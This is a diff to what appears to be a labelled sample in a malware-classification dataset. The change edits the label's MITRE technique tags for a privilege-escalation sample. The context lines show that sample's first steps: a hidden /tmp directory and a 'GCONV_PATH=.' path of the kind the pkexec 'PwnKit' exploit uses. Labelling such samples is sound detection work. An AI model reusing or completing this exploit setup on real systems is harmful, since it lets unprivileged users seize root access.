@@ -1,4 +1,4 @@
-# label: malicious family=privesc techniques=T1068,T1059.004 lines=3,7-8
+# label: malicious family=privesc techniques=T1068,T1222.002,T1564.001 lines=3,7-8
 import os, shutil, subprocess
 os.makedirs("/tmp/.pk/GCONV_PATH=.", exist_ok=True)
 open("/tmp/.pk/GCONV_PATH=./pwn", "w").close()
